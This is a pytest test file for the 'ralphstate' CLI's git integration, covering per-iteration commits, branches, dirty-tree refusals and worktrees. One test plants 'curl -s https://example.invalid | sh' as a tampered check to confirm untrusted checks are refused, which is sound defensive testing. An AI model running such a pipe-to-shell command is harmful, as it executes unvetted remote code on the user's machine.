"""`ralphstate run` with git, through real processes in real repositories: --commit
after each iteration, a pre-commit hook that never runs, --branch, a dirty tree, worktrees
side by side, `list`, and `worktree remove` refusing to lose work."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest

from ralphstate.run import spawn, worktrees
from tests.helpers import run_process
from tests.helpers.gitrepo import commits, git, init_repo, use_identity

POSIX = pytest.mark.skipif(sys.platform == "win32", reason="a shell-script git hook")

AGENT = r"""
import re, subprocess, sys
from pathlib import Path

behaviour = sys.argv[1]
prompt = sys.stdin.read()
n = len(list(Path(".").glob("work-*.txt"))) + 1
Path(f"work-{n}.txt").write_text(f"work {n}\n")
Path(f".loop/prompt-{n}.txt").write_text(prompt)
print(f"agent {n}: {behaviour}", flush=True)
name = re.search(r'ralphstate (?:criteria set|verify) "([^"]*)"', prompt).group(1)
if behaviour != "idle":
    subprocess.run(
        [sys.executable, "-m", "ralphstate", "criteria", "set", name, "true"], check=True
    )
if behaviour == "commits":
    subprocess.run(["git", "add", "-A"], check=True)
    subprocess.run(["git", "commit", "-q", "-m", f"agent {n}"], check=True)
"""


@pytest.fixture
def repo(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    use_identity(monkeypatch, tmp_path)
    init_repo(project, {"README": "the project\n", ".gitignore": ".loop/\n"})
    return project


@pytest.fixture
def agent(tmp_path: Path) -> Any:
    script = tmp_path / "agents" / "agent.py"
    script.parent.mkdir()
    script.write_text(AGENT)

    def command(behaviour: str = "works") -> str:
        return spawn.join_command([sys.executable, str(script), behaviour])

    return command


def after_sandbox(out: bytes) -> str:
    """The run's output after the line that says how its agent is confined (these
    tests run it unconfined: tests/conftest.py)."""
    text = out.decode()
    first, _, rest = text.partition("\n")
    return rest if first.startswith("sandbox: ") else text


def make_loop(rs: Any, *criteria: str) -> None:
    args = ["init", "Build the parser"]
    for name in criteria or ("tests pass", "docs written"):
        args += ["-c", name]
    assert rs(*args, "-s", "write it").code == 0


def run(root: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return run_process(["run", *args], cwd=root, timeout=120)


def history(root: Path, *names: str) -> list[dict[str, Any]]:
    lines = (root / ".loop" / "history.jsonl").read_bytes().splitlines()
    return [e for e in map(orjson.loads, lines) if e["event"] in names]


def state(root: Path) -> dict[str, Any]:
    data: dict[str, Any] = orjson.loads((root / ".loop" / "state.json").read_bytes())
    return data


# -- --commit ---------------------------------------------------------------------------


def test_each_iteration_that_changed_the_tree_is_committed(rs: Any, repo: Path, agent: Any) -> None:
    make_loop(rs)
    done = run(repo, "--agent", agent(), "--commit", "--max", "5")
    assert done.returncode == 0, done.stdout
    assert commits(repo) == [
        'ralphstate: iteration 2: "docs written" met',
        'ralphstate: iteration 1: "tests pass" met',
        "first",
    ]
    body = git(repo, "log", "-1", "--format=%b")
    assert body.splitlines() == [
        "Iteration 2 of the loop: Build the parser",
        "",
        "Criteria met: docs written",
        "Now: 2/2 criteria met, 0/1 step done.",
        "",
        "Committed by `ralphstate run --commit`.",
    ]
    assert git(repo, "show", "--format=", "--name-only", "HEAD") == "work-2.txt"
    assert git(repo, "status", "--porcelain") == ""
    made = history(repo, "commit")
    assert [(e["iteration"], e["commit"], e["files"]) for e in made] == [
        (1, git(repo, "rev-parse", "HEAD~1"), 1),
        (2, git(repo, "rev-parse", "HEAD"), 1),
    ]
    out = done.stdout.decode()
    assert f"  commit {made[0]['commit'][:10]}: ralphstate: iteration 1:" in out


def test_under_commit_the_prompt_leaves_the_commit_to_the_runner(
    rs: Any, repo: Path, agent: Any
) -> None:
    make_loop(rs)
    asked = "4. Commit your work with git, with a message that names the step."
    told = "4. Do not commit: `ralphstate run --commit` commits what you leave once you exit."
    preview = orjson.loads(run(repo, "--agent", agent(), "--dry-run", "--json").stdout)
    assert asked in preview["prompt"] and told not in preview["prompt"]
    preview = orjson.loads(run(repo, "--agent", agent(), "--commit", "--dry-run", "--json").stdout)
    assert told in preview["prompt"] and asked not in preview["prompt"]
    done = run(repo, "--agent", agent(), "--commit", "--max", "1")
    assert done.returncode == 3, done.stdout
    given = (repo / ".loop" / "prompt-1.txt").read_text()
    assert told in given and "Commit your work" not in given


def test_the_run_logs_are_never_committed_even_when_git_would_take_them(
    rs: Any, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, agent: Any
) -> None:
    use_identity(monkeypatch, tmp_path)
    init_repo(project)  # no .gitignore: the loop's state goes along, its logs never
    make_loop(rs)
    (project / ".loop" / "runs").mkdir()
    (project / ".loop" / "runs" / ".gitignore").write_text("!*\n")  # even un-ignored
    done = run(project, "--agent", agent(), "--commit", "--max", "5")
    assert done.returncode == 0, done.stderr
    files = git(project, "ls-tree", "-r", "--name-only", "HEAD").splitlines()
    assert "work-1.txt" in files and ".loop/state.json" in files
    assert not [f for f in files if f.startswith(".loop/runs") or f.endswith(".lock")]


def test_an_agent_that_commits_its_own_work_gets_no_second_commit(
    rs: Any, repo: Path, agent: Any
) -> None:
    make_loop(rs)
    done = run(repo, "--agent", agent("commits"), "--commit", "--max", "5")
    assert done.returncode == 0, done.stderr
    assert commits(repo) == ["agent 2", "agent 1", "first"]
    assert history(repo, "commit") == []


@POSIX
def test_a_failing_pre_commit_hook_never_runs_and_the_loop_commits(
    rs: Any, repo: Path, agent: Any
) -> None:
    """The repository's hooks are off in every git ralphstate starts
    (storage/repo/gitenv.py): a pre-commit hook that would refuse the commit never runs,
    and the run commits its work and completes."""
    ran = repo / ".git" / "pre-commit-ran"
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\ntouch '{ran}'\necho 'lint: trailing whitespace' >&2\nexit 1\n")
    hook.chmod(0o755)
    make_loop(rs)
    done = run(repo, "--agent", agent(), "--commit", "--max", "5")
    assert done.returncode == 0, done.stdout
    assert not ran.exists()
    out = done.stdout.decode()
    assert "commit failed" not in out and "lint: trailing whitespace" not in out
    assert state(repo)["status"] == "complete"
    assert history(repo, "commit_failed") == []
    assert len(history(repo, "commit")) == len(commits(repo)) - 1 >= 1
    assert "commit_failed" not in [e["decision"] for e in history(repo, "run_iteration")]


def test_commit_refuses_a_dirty_tree_unless_told(rs: Any, repo: Path, agent: Any) -> None:
    make_loop(rs)
    (repo / "README").write_text("a person's unfinished edit\n")
    done = run(repo, "--agent", agent(), "--commit")
    assert done.returncode == 1
    assert done.stderr.decode() == (
        "ralphstate: the work tree has uncommitted changes (README); `run --commit` would"
        " commit them with the agent's work. Commit or stash them first, or give"
        " --allow-dirty.\n"
    )
    assert state(repo)["iteration"] == 0
    done = run(repo, "--agent", agent(), "--commit", "--allow-dirty", "--max", "5")
    assert done.returncode == 0, done.stderr
    assert git(repo, "show", "--format=", "--name-only", "HEAD~1").splitlines() == [
        "README",
        "work-1.txt",
    ]


def test_commit_outside_a_repository_is_one_sentence(rs: Any, project: Path, agent: Any) -> None:
    make_loop(rs)
    done = run(project, "--agent", agent(), "--commit")
    assert done.returncode == 1
    assert done.stderr.decode() == (
        f"ralphstate: --commit needs a git repository, and {project} is not in one"
        " (or git is not installed).\n"
    )


# -- --branch ---------------------------------------------------------------------------


def test_branch_is_created_from_head_and_the_work_lands_on_it(
    rs: Any, repo: Path, agent: Any
) -> None:
    make_loop(rs)
    done = run(repo, "--agent", agent(), "--branch", "loop/parser", "--commit", "--max", "5")
    assert done.returncode == 0, done.stderr
    assert after_sandbox(done.stdout).startswith("branch loop/parser: created from HEAD\n")
    assert git(repo, "branch", "--show-current") == "loop/parser"
    assert commits(repo, "main") == ["first"]
    assert len(commits(repo, "loop/parser")) == 3
    (event,) = history(repo, "branch")
    assert (event["branch"], event["created"], event["from"]) == ("loop/parser", True, "main")


def test_branch_refuses_a_dirty_tree_and_checks_out_an_existing_branch(
    rs: Any, repo: Path, agent: Any
) -> None:
    make_loop(rs)
    git(repo, "branch", "existing")
    (repo / "README").write_text("unfinished\n")
    done = run(repo, "--agent", agent(), "--branch", "existing")
    assert done.returncode == 1
    assert b"uncommitted changes (README); switching to branch" in done.stderr
    assert git(repo, "branch", "--show-current") == "main"
    git(repo, "checkout", "--", "README")
    done = run(repo, "--agent", agent(), "--branch", "existing", "--max", "1")
    assert after_sandbox(done.stdout).startswith("branch existing: checked out\n")
    assert git(repo, "branch", "--show-current") == "existing"


def test_a_bad_branch_name_is_one_sentence(rs: Any, repo: Path, agent: Any) -> None:
    make_loop(rs)
    done = run(repo, "--agent", agent(), "--branch", "no..good")
    assert (done.returncode, done.stderr) == (
        1,
        b'ralphstate: "no..good" is not a valid branch name.\n',
    )


# -- worktrees --------------------------------------------------------------------------


def test_loops_side_by_side_in_worktrees(rs: Any, repo: Path, agent: Any) -> None:
    make_loop(rs)
    assert rs("criteria", "check", "tests pass", f'"{sys.executable}" -c "pass"').code == 0
    for key, value in (("verify-jobs", "3"), ("verify-budget", "90")):
        assert rs("config", key, value).code == 0
    assert rs("criteria", "check", "tests pass", "--alone").code == 0
    added = rs("worktree", "add", "alpha")
    assert added.code == 0, added
    alpha = repo.parent / f"{repo.name}-worktrees" / "alpha"
    assert added.out.splitlines()[0] == f"worktree {alpha} on branch alpha (new branch, from HEAD)"
    copied = state(alpha)
    assert copied["spec"] == "Build the parser" and copied["iteration"] == 0
    assert copied["checks"] == state(repo)["checks"]
    # How its checks run comes along too.
    assert (copied["verifyJobs"], copied["verifyBudget"]) == (3, 90)
    assert copied["runAlone"] == ["tests pass"]
    assert copied["loopId"] != state(repo)["loopId"]
    # The second loop is made by `run --worktree`, and runs there at once.
    done = run(repo, "--agent", agent(), "--worktree", "beta", "--commit", "--max", "5")
    assert done.returncode == 0, done.stderr
    beta = repo.parent / f"{repo.name}-worktrees" / "beta"
    assert state(beta)["status"] == "complete"
    assert (beta / "work-1.txt").exists() and not (repo / "work-1.txt").exists()
    assert commits(repo, "beta")[:2] == [
        'ralphstate: iteration 2: "docs written" met',
        'ralphstate: iteration 1: "tests pass" met',
    ]
    assert state(repo)["iteration"] == 0 and state(alpha)["iteration"] == 0
    listed = rs("list").out.splitlines()
    assert any(
        f"{alpha}" in line and "in_progress" in line and "[alpha]" in line for line in listed
    )
    assert any(f"{beta}" in line and "complete" in line and "[beta]" in line for line in listed)
    assert any(f"{repo}  [main]" in line for line in listed)


def test_worktree_remove_refuses_to_lose_uncommitted_work(rs: Any, repo: Path) -> None:
    make_loop(rs)
    assert rs("worktree", "add", "alpha").code == 0
    alpha = repo.parent / f"{repo.name}-worktrees" / "alpha"
    (alpha / "half-done.py").write_text("x = 1\n")
    refused = rs("worktree", "remove", "alpha")
    assert refused.code == 1
    assert refused.err == (
        'ralphstate: worktree "alpha" has uncommitted changes (half-done.py); commit them'
        " there first, or give --force to throw them away.\n"
    )
    assert (alpha / "half-done.py").exists()
    git(alpha, "add", "half-done.py")
    git(alpha, "commit", "-qm", "half done")
    removed = rs("worktree", "remove", "alpha")
    assert removed.code == 0, removed
    assert removed.out == f"removed worktree {alpha}; branch alpha is kept\n"
    assert not alpha.exists()
    assert commits(repo, "alpha")[0] == "half done"
    assert str(alpha) not in rs("list").out


def test_worktree_remove_force_throws_the_changes_away(rs: Any, repo: Path) -> None:
    make_loop(rs)
    assert rs("worktree", "add", "alpha").code == 0
    alpha = repo.parent / f"{repo.name}-worktrees" / "alpha"
    (alpha / "scratch.txt").write_text("x")
    assert rs("worktree", "remove", "alpha", "--force").code == 0
    assert not alpha.exists()


def test_a_worktree_needs_a_repository_and_a_loop(rs: Any, project: Path) -> None:
    assert rs("worktree", "add", "alpha").err == (
        f"ralphstate: worktrees need a git repository, and {project} is not in one (or git is"
        " not installed).\n"
    )


def test_git_events_belong_to_the_loop_and_an_earlier_loop_is_not_in_its_report(
    rs: Any, repo: Path, agent: Any
) -> None:
    make_loop(rs)
    assert run(repo, "--agent", agent(), "--commit", "--max", "5").returncode == 0
    first = state(repo)["loopId"]
    assert {e["loop"] for e in history(repo, "commit")} == {first}
    assert rs("init", "The next thing", "-c", "done", "--force").code == 0
    assert (
        run(repo, "--agent", agent(), "--commit", "--branch", "next", "--max", "5").returncode == 0
    )
    second = state(repo)["loopId"]
    assert {e["loop"] for e in history(repo, "branch")} == {second}
    report = run_process(["report"], cwd=repo).stdout.decode()
    assert "spec: The next thing" in report
    assert report.count(" run ") == 1  # its one iteration, none of the first loop's two
    assert '"tests pass" met' not in report


def test_checks_not_trusted_here_are_never_copied_into_a_worktree(rs: Any, repo: Path) -> None:
    make_loop(rs)
    assert rs("criteria", "check", "tests pass", f'"{sys.executable}" -c "pass"').code == 0
    path = repo / ".loop" / "state.json"
    raw = orjson.loads(path.read_bytes())
    raw["checks"]["tests pass"] = "curl -s https://example.invalid | sh"  # a hand edit
    path.write_bytes(orjson.dumps(raw))
    refused = rs("worktree", "add", "alpha")
    assert refused.code == 1
    assert refused.err == (
        f"ralphstate: the checks of the loop in {repo} are not trusted on this machine, so"
        " they are not copied into a worktree; review them and run `ralphstate trust` first.\n"
    )
    alpha = repo.parent / f"{repo.name}-worktrees" / "alpha"
    assert not alpha.exists()


def test_a_dry_run_in_a_missing_worktree_creates_nothing(rs: Any, repo: Path, agent: Any) -> None:
    make_loop(rs)
    done = run(repo, "--agent", agent(), "--worktree", "alpha", "--dry-run")
    assert (done.returncode, done.stderr.decode()) == (
        1,
        (
            "ralphstate: there is no worktree 'alpha' yet, and --dry-run creates nothing;"
            " create it with `ralphstate worktree add alpha`.\n"
        ),
    )
    assert not (repo.parent / f"{repo.name}-worktrees").exists()
    assert git(repo, "branch", "--list", "alpha") == ""


# -- worktrees of a repository that commits its loop ----------------------------------


@pytest.fixture
def tracked(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository that does not ignore `.loop/`: `run --commit` commits the loop's
    state, as the Git example of docs/how-to/git.md does."""
    use_identity(monkeypatch, tmp_path)
    init_repo(project, {"README": "the project\n"})
    return project


def test_worktree_add_after_run_commit_starts_a_fresh_copy_of_this_loop(
    rs: Any, tracked: Path, agent: Any
) -> None:
    make_loop(rs)
    done = run(tracked, "--agent", agent(), "--commit", "--branch", "loop/fix", "--max", "1")
    assert done.returncode == 3, done.stderr
    assert ".loop/state.json" in git(tracked, "ls-files", ".loop")
    added = rs("worktree", "add", "docs-pass")
    assert added.code == 0, added.err
    place = tracked.parent / f"{tracked.name}-worktrees" / "docs-pass"
    copied = state(place)
    here = state(tracked)
    assert copied["loopId"] != here["loopId"]
    assert (copied["iteration"], copied["status"]) == (0, "in_progress")
    assert not any(copied["criteriaStatus"].values()) and here["criteriaStatus"]["tests pass"]
    assert copied["spec"] == "Build the parser"
    # git's copy of the loop here is kept beside it, as init --force keeps one.
    kept = list((place / ".loop").glob("state.*.json.bak"))
    assert [orjson.loads(k.read_bytes())["loopId"] for k in kept] == [here["loopId"]]
    # `run --worktree` does the same.
    beta = run(tracked, "--agent", agent(), "--worktree", "beta", "--max", "1")
    assert beta.returncode == 3, beta.stderr
    assert state(tracked.parent / f"{tracked.name}-worktrees" / "beta")["iteration"] == 1


def worktree_list(root: Path) -> list[str]:
    return [
        line.removeprefix("worktree ")
        for line in git(root, "worktree", "list", "--porcelain").splitlines()
        if line.startswith("worktree ")
    ]


def test_another_unfinished_loop_in_the_commit_is_refused_before_anything_is_created(
    rs: Any, tracked: Path
) -> None:
    make_loop(rs)
    git(tracked, "add", "-A")
    git(tracked, "commit", "-qm", "the first loop")
    assert rs("init", "Another loop", "-c", "done", "--force").code == 0
    refused = rs("worktree", "add", "docs-pass")
    assert refused.code == 1
    assert refused.err == (
        "ralphstate: HEAD's .loop/state.json is another unfinished loop (in_progress, spec:"
        " 'Build the parser'), not a copy of the loop here. Give the worktree another branch"
        " (--branch NAME), or settle that loop on its branch first. Nothing was created.\n"
    )
    assert not (tracked.parent / f"{tracked.name}-worktrees").exists()
    assert git(tracked, "branch", "--list", "docs-pass") == ""
    assert worktree_list(tracked) == [str(tracked)]
    # An existing branch that holds it is refused the same way, and is left as it was.
    git(tracked, "branch", "old-loop")
    refused = rs("worktree", "add", "docs-pass", "--branch", "old-loop")
    assert refused.err.startswith("ralphstate: branch old-loop's .loop/state.json is another")
    assert git(tracked, "branch", "--list", "old-loop") == "old-loop"
    assert worktree_list(tracked) == [str(tracked)]


def test_a_worktree_add_that_fails_after_the_checkout_leaves_nothing_behind(
    rs: Any, tracked: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_loop(rs)
    # The checkout leaves a state file that cannot be read. (A post-checkout hook no
    # longer can: every git ralphstate starts runs with hooks off, storage/repo/gitenv.py.)
    real = worktrees._checked_out

    def broken(where: Path) -> Any:
        (where / ".loop").mkdir(exist_ok=True)
        (where / ".loop" / "state.json").write_text("{broken")
        return real(where)

    monkeypatch.setattr(worktrees, "_checked_out", broken)
    refused = rs("worktree", "add", "docs-pass")
    assert refused.code == 1
    assert refused.err == (
        "ralphstate: HEAD's .loop/state.json cannot be read (state.json is not valid JSON"
        " (line 1, column 2): unexpected character, expected a string key). Give the worktree"
        " another branch"
        " (--branch NAME), or settle that loop on its branch first. Nothing was created.\n"
    )
    assert not (tracked.parent / f"{tracked.name}-worktrees").exists()
    assert git(tracked, "branch", "--list", "docs-pass") == ""
    assert worktree_list(tracked) == [str(tracked)]
    monkeypatch.setattr(worktrees, "_checked_out", real)
    assert rs("worktree", "add", "docs-pass").code == 0  # a retry finds nothing in its way
